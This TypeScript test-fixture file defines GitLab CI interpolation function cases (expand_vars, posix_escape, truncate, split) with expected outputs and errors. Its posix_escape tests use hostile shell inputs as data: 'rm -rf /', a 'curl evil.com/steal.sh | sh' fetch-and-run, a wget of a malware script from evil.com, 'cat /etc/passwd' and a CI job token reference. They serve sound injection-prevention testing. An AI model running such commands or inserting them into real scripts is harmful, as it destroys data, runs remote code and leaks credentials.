import { component, type GitlabCase } from './case.js'

const EXPAND = 'spec/lib/gitlab/ci/config/interpolation/functions/expand_vars_spec.rb'
const POSIX = 'spec/lib/gitlab/ci/config/interpolation/functions/posix_escape_spec.rb'
const TRUNCATE = 'spec/lib/gitlab/ci/config/interpolation/functions/truncate_spec.rb'
const STACK = 'spec/lib/gitlab/ci/config/interpolation/functions_stack_spec.rb'
const SPEC_DOC = 'gitlab-components-spec.md §4.4'
// 19.2: split.rb, split_spec.rb and functions_stack(_spec).rb read at gitlabhq 41946e6.
const SPLIT = 'spec/lib/gitlab/ci/config/interpolation/functions/split_spec.rb'
const STACK_19_2 = 'spec/lib/gitlab/ci/config/interpolation/functions_stack_spec.rb (19.2)'
const SPLIT_SOURCE = 'lib/gitlab/ci/config/interpolation/functions/split.rb @41946e6 (Ruby String#split)'
const SPLIT_FLAG = 'ci_interpolation_split_function'

const variables = {
  VAR1: 'value1',
  VAR2: { value: 'value2', masked: false },
  NESTED_VAR: '$MY_VAR',
  MASKED_VAR: { value: 'masked', masked: true },
}

const NO_MATCH = (expr: string) =>
  `no function matching \`${expr}\`: check that the function name, arguments, and types are correct`

function fn(
  name: string,
  source: string,
  block: string,
  input: unknown,
  expected: GitlabCase['expected'],
  type = 'string',
): GitlabCase {
  return {
    name,
    source,
    template: component(`spec:\n  inputs:\n    value:\n      type: ${type}`, `value: '${block}'\n`),
    inputs: { value: input },
    context: { variables },
    expected,
  }
}

/** `value: "<block>"` rendered as GitLab 19.2 with `split` switched on (or off, with `flag: false`). */
function split(
  name: string,
  source: string,
  block: string,
  input: unknown,
  expected: GitlabCase['expected'],
  { type = 'string', flag = true }: { type?: string; flag?: boolean } = {},
): GitlabCase {
  return {
    name,
    source,
    template: component(`spec:\n  inputs:\n    value:\n      type: ${type}`, `value: "${block}"\n`),
    inputs: input === undefined ? {} : { value: input },
    gitlab: '19.2',
    ...(flag ? { featureFlags: [SPLIT_FLAG] } : {}),
    expected,
  }
}

const splitCases: GitlabCase[] = [
  split(
    'with a comma-separated string › splits into an array',
    SPLIT,
    "$[[ inputs.value | split(',') ]]",
    'a,b,c,d,e',
    {
      config: { value: ['a', 'b', 'c', 'd', 'e'] },
    },
  ),
  split(
    'with surrounding whitespace around elements › strips whitespace from each element',
    SPLIT,
    "$[[ inputs.value | split(',') ]]",
    'a, b, c',
    { config: { value: ['a', 'b', 'c'] } },
  ),
  split('with empty segments › rejects empty elements', SPLIT, "$[[ inputs.value | split(',') ]]", 'a,,b', {
    config: { value: ['a', 'b'] },
  }),
  split(
    'with a custom separator › splits on the custom separator',
    SPLIT,
    "$[[ inputs.value | split(';') ]]",
    'a;b;c',
    {
      config: { value: ['a', 'b', 'c'] },
    },
  ),
  split(
    'with a single value (no separator in string) › returns a one-element array',
    SPLIT,
    "$[[ inputs.value | split(',') ]]",
    'only-one',
    { config: { value: ['only-one'] } },
  ),
  split(
    'when the input is not a string › returns an error',
    SPLIT,
    "$[[ inputs.value | split(',') ]]",
    100,
    { error: 'error in `split` function: invalid input type: split can only be used with string inputs' },
    { type: 'number' },
  ),
  {
    ...split(
      'when the input is nil › returns an error',
      SPLIT,
      "$[[ inputs.value | split(',') ]]",
      undefined,
      {
        error: 'error in `split` function: invalid input type: split can only be used with string inputs',
      },
    ),
    template: component(
      'spec:\n  inputs:\n    value:\n      type: number\n      default: null',
      `value: "$[[ inputs.value | split(',') ]]"\n`,
    ),
  },
  split(
    'with an empty string input › returns an empty array',
    SPLIT,
    "$[[ inputs.value | split(',') ]]",
    '',
    {
      config: { value: [] },
    },
  ),
  split('with an empty separator › returns an error', SPLIT, "$[[ inputs.value | split('') ]]", 'abc', {
    error: 'error in `split` function: invalid argument: separator cannot be empty',
  }),
  split(
    '.matches? › does not match a double-quoted separator',
    SPLIT,
    '$[[ inputs.value | split(\\",\\") ]]',
    'a,b',
    {
      error: NO_MATCH('split(",")'),
    },
  ),
  split(
    'when ci_interpolation_split_function feature flag is enabled › when split is the last function › splits the input string into an array',
    STACK_19_2,
    "$[[ inputs.value | split(',') ]]",
    'a,b,c',
    { config: { value: ['a', 'b', 'c'] } },
  ),
  split(
    'when ci_interpolation_split_function feature flag is enabled › when split is not the last function in the chain › returns an error',
    STACK_19_2,
    "$[[ inputs.value | split(',') | truncate(0,1) ]]",
    'a,b,c',
    { error: 'split() must be the last function in a chain (it returns an array, not a string)' },
  ),
  split(
    'when ci_interpolation_split_function feature flag is disabled › returns an error for split expressions',
    STACK_19_2,
    "$[[ inputs.value | split(',') ]]",
    'a,b,c',
    { error: NO_MATCH("split(',')") },
    { flag: false },
  ),
  split(
    "a single space splits on runs of whitespace (Ruby's awk-style split)",
    SPLIT_SOURCE,
    "$[[ inputs.value | split(' ') ]]",
    ' a \t b  c ',
    {
      config: { value: ['a', 'b', 'c'] },
    },
  ),
  split(
    'the array is printed with Ruby inspect inside a longer string',
    SPLIT_SOURCE,
    "tags: $[[ inputs.value | split(',') ]]",
    'a,b',
    { config: { value: 'tags: ["a", "b"]' } },
  ),
  {
    ...split('an array item that splits into an array is spliced in', SPLIT_SOURCE, '', 'b,c', {
      config: { tags: ['a', 'b', 'c', 'd'] },
    }),
    template: component('spec:\n  inputs:\n    value:', `tags: [a, "$[[ inputs.value | split(',') ]]", d]\n`),
  },
]

export const functionCases: GitlabCase[] = [
  fn('expands the variable', EXPAND, '$[[ inputs.value | expand_vars ]]', '$VAR1', {
    config: { value: 'value1' },
  }),
  fn(
    'when the variable contains another variable › does not expand the inner variable',
    EXPAND,
    '$[[ inputs.value | expand_vars ]]',
    '$NESTED_VAR',
    {
      config: { value: '$MY_VAR' },
    },
  ),
  fn(
    'when the variable is masked › returns an error',
    EXPAND,
    '$[[ inputs.value | expand_vars ]]',
    '$MASKED_VAR',
    {
      error: 'error in `expand_vars` function: variable expansion error: masked variables cannot be expanded',
    },
  ),
  fn(
    'when the variable is unknown › does not expand the variable',
    EXPAND,
    '$[[ inputs.value | expand_vars ]]',
    '$UNKNOWN_VAR',
    {
      config: { value: '$UNKNOWN_VAR' },
    },
  ),
  fn(
    'when there are multiple variables › expands the variables',
    EXPAND,
    '$[[ inputs.value | expand_vars ]]',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a CI variable reference, not a JS placeholder
    '${VAR1} $VAR2 %VAR1%',
    {
      config: { value: 'value1 value2 value1' },
    },
  ),
  fn(
    'when the input is not a string › returns an error',
    EXPAND,
    '$[[ inputs.value | expand_vars ]]',
    100,
    {
      error:
        'error in `expand_vars` function: invalid input type: expand_vars can only be used with string inputs',
    },
    'number',
  ),
  fn('.matches? › expand_vars() does not match', EXPAND, '$[[ inputs.value | expand_vars() ]]', '$VAR1', {
    error: NO_MATCH('expand_vars()'),
  }),
  fn('.matches? › expand_vars(1) does not match', EXPAND, '$[[ inputs.value | expand_vars(1) ]]', '$VAR1', {
    error: NO_MATCH('expand_vars(1)'),
  }),
  fn('.matches? › unknown does not match', EXPAND, '$[[ inputs.value | unknown ]]', '$VAR1', {
    error: NO_MATCH('unknown'),
  }),
  fn(
    'escapes the given input',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    `String with " and ' and  blanks`,
    {
      config: { value: 'String\\ with\\ \\"\\ and\\ \\\'\\ and\\ \\ blanks' },
    },
  ),
  fn('prevents argument splitting on blanks', POSIX, '$[[ inputs.value | posix_escape ]]', 'Blank space', {
    config: { value: 'Blank\\ space' },
  }),
  fn(
    'prevents single-quotes from starting/ending quotation',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    "Single-'-quote",
    {
      config: { value: "Single-\\'-quote" },
    },
  ),
  fn(
    'prevents double-quotes from starting/ending quotation',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    'Double-"-quote',
    {
      config: { value: 'Double-\\"-quote' },
    },
  ),
  fn(
    'prevents command chaining with semicolon',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    'file.txt; rm -rf /',
    {
      config: { value: 'file.txt\\;\\ rm\\ -rf\\ /' },
    },
  ),
  fn(
    'prevents command substitution with backticks',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    '`curl evil.com/steal.sh | sh`',
    {
      config: { value: '\\`curl\\ evil.com/steal.sh\\ \\|\\ sh\\`' },
    },
  ),
  fn(
    'prevents command substitution with $(...)',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    'file_$(whoami).txt',
    {
      config: { value: 'file_\\$\\(whoami\\).txt' },
    },
  ),
  fn(
    'prevents pipe redirection attacks',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    'input.txt | cat /etc/passwd',
    {
      config: { value: 'input.txt\\ \\|\\ cat\\ /etc/passwd' },
    },
  ),
  fn(
    'prevents newline injection for command chaining',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    'file.txt\nwget http://evil.com/malware.sh',
    {
      config: { value: "file.txt'\n'wget\\ http://evil.com/malware.sh" },
    },
  ),
  fn(
    'prevents environment variable exfiltration',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    '$CI_JOB_TOKEN',
    {
      config: { value: '\\$CI_JOB_TOKEN' },
    },
  ),
  fn('prevents glob expansion attacks', POSIX, '$[[ inputs.value | posix_escape ]]', '*.rb', {
    config: { value: '\\*.rb' },
  }),
  fn(
    'when given a non-string input › returns an error',
    POSIX,
    '$[[ inputs.value | posix_escape ]]',
    100,
    {
      error:
        'error in `posix_escape` function: invalid input type: posix_escape can only be used with string inputs',
    },
    'number',
  ),
  fn('posix_escape() does not match', POSIX, '$[[ inputs.value | posix_escape() ]]', 'x', {
    error: NO_MATCH('posix_escape()'),
  }),
  fn('posix_escape(1) does not match', POSIX, '$[[ inputs.value | posix_escape(1) ]]', 'x', {
    error: NO_MATCH('posix_escape(1)'),
  }),
  fn(
    'Shellwords.shellescape of an empty string is two quotes',
    SPEC_DOC,
    '$[[ inputs.value | posix_escape ]]',
    '',
    {
      config: { value: "''" },
    },
  ),
  fn(
    'Shellwords.shellescape escapes each multibyte character',
    SPEC_DOC,
    '$[[ inputs.value | posix_escape ]]',
    'é ü',
    {
      config: { value: '\\é\\ \\ü' },
    },
  ),
  fn('truncates the given input', TRUNCATE, '$[[ inputs.value | truncate(1,2) ]]', 'test', {
    config: { value: 'es' },
  }),
  fn(
    'matches truncate( 11 , 222 ) with spaces',
    TRUNCATE,
    '$[[ inputs.value | truncate( 11 , 222 ) ]]',
    'abcdefghijklmnop',
    {
      config: { value: 'lmnop' },
    },
  ),
  fn(
    'truncate( string , 222 ) does not match',
    TRUNCATE,
    '$[[ inputs.value | truncate( string , 222 ) ]]',
    'x',
    {
      error: NO_MATCH('truncate( string , 222 )'),
    },
  ),
  fn('truncate(222) does not match', TRUNCATE, '$[[ inputs.value | truncate(222) ]]', 'x', {
    error: NO_MATCH('truncate(222)'),
  }),
  fn('unknown(1,2) does not match', TRUNCATE, '$[[ inputs.value | unknown(1,2) ]]', 'x', {
    error: NO_MATCH('unknown(1,2)'),
  }),
  fn(
    'when given a non-string input › returns an error',
    TRUNCATE,
    '$[[ inputs.value | truncate(1,2) ]]',
    100,
    {
      error: 'error in `truncate` function: invalid input type: truncate can only be used with string inputs',
    },
    'number',
  ),
  fn('the closing parenthesis is optional', SPEC_DOC, '$[[ inputs.value | truncate(0,3 ]]', 'abcdef', {
    config: { value: 'abc' },
  }),
  fn('offset past the end gives an empty string', SPEC_DOC, '$[[ inputs.value | truncate(10,3) ]]', 'abc', {
    config: { value: '' },
  }),
  fn('counts characters, not bytes', SPEC_DOC, '$[[ inputs.value | truncate(1,2) ]]', 'äöüß', {
    config: { value: 'öü' },
  }),
  fn('negative numbers do not match', SPEC_DOC, '$[[ inputs.value | truncate(-1,2) ]]', 'abc', {
    error: NO_MATCH('truncate(-1,2)'),
  }),
  fn(
    'functions run in order: expand_vars then posix_escape',
    SPEC_DOC,
    '$[[ inputs.value | expand_vars | posix_escape ]]',
    'a $VAR1',
    {
      config: { value: 'a\\ value1' },
    },
  ),
  fn(
    'modifies the given input value according to the function expressions',
    STACK,
    '$[[ inputs.value | truncate(0,4) | truncate(1,2) ]]',
    'test_input_value',
    {
      config: { value: 'es' },
    },
  ),
  fn(
    'when applying a function fails › returns the error given by the failure',
    STACK,
    '$[[ inputs.value | truncate(0,4) | truncate(1,2) ]]',
    666,
    {
      error: 'error in `truncate` function: invalid input type: truncate can only be used with string inputs',
    },
    'number',
  ),
  fn(
    'when function expressions do not match any function › returns an error',
    STACK,
    '$[[ inputs.value | truncate(0) | unknown ]]',
    'x',
    {
      error: `${NO_MATCH('truncate(0)')}, ${NO_MATCH('unknown')}`,
    },
  ),
  fn(
    'a failing function stops the chain (later functions do not run)',
    STACK,
    '$[[ inputs.value | expand_vars | posix_escape ]]',
    '$MASKED_VAR',
    {
      error: 'error in `expand_vars` function: variable expansion error: masked variables cannot be expanded',
    },
  ),
  ...splitCases,
]
